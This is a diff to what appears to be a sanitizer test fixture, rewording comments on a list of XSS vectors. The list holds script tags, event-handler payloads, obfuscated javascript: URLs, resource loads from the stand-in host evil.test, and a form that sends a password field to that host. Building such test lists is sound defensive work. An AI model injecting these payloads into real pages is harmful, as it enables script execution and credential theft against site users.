@@ -1,4 +1,4 @@
-/** Ways to run a script, load something or cover the page, gathered for the tests of the cleaner. */
+/** Attack vectors that run a script, load something or cover the page, for the tests of the cleaner. */
 export const HOSTILE_VECTORS: string[] = [
   // Elements that run or load by themselves.
   '<script>alert(1)</script>',
@@ -36,7 +36,7 @@ export const HOSTILE_VECTORS: string[] = [
   '<marquee onstart=alert(1)>x</marquee>',
   '<bgsound src="//evil.test/a.wav"><layer src="//evil.test"></layer><ilayer src="//evil.test"></ilayer>',
   '<isindex action="javascript:alert(1)" type=image>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)"//>',
   '<img/src=x/onerror=alert(1)>',
@@ -56,7 +56,7 @@ export const HOSTILE_VECTORS: string[] = [
   '<p style="animation-name:x" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>',
   '<a onclick=alert(1) href="https://shop.test/">x</a>',
   '<table background="x" onresize=alert(1)><td background="javascript:alert(1)">x</td></table>',
-  // Addresses.
+  // URLs.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" \u0001javascript:alert(1)">x</a>',
@@ -81,7 +81,7 @@ export const HOSTILE_VECTORS: string[] = [
   '<img src="ht\ntps://evil.test/x.png">',
   '<q cite="//evil.test">x</q><blockquote cite="javascript:alert(1)">x</blockquote>',
   '<html manifest="//evil.test/m"><head profile="//evil.test/p"></head>',
-  // Forms and lures.
+  // Forms and phishing.
   '<form action="//evil.test"><input name=password><button>Send</button></form>',
   '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
   '<input type=image src="//evil.test/i.png" formaction="javascript:alert(1)">',
@@ -197,7 +197,7 @@ const PAYLOADS = [
   '<!--[if IE]><script>alert(1)</script><![endif]--><!--[if mso]><img src="//evil.test/m.png" onerror=alert(1)><![endif]-->',
 ]
 
-/** Where it is put so that a cleaner overlooks it; `@` is the payload. */
+/** Where it is hidden from a cleaner; `@` is the payload. */
 const CONTEXTS = [
   '@',
   '@<p>after',
@@ -241,7 +241,7 @@ const CONTEXTS = [
   '<p>@'.repeat(3),
 ]
 
-/** Every payload in every place. */
+/** Every payload in every position. */
 export function combinedVectors(): string[] {
   return CONTEXTS.flatMap((context) => PAYLOADS.map((payload) => context.replaceAll('@', () => payload)))
 }
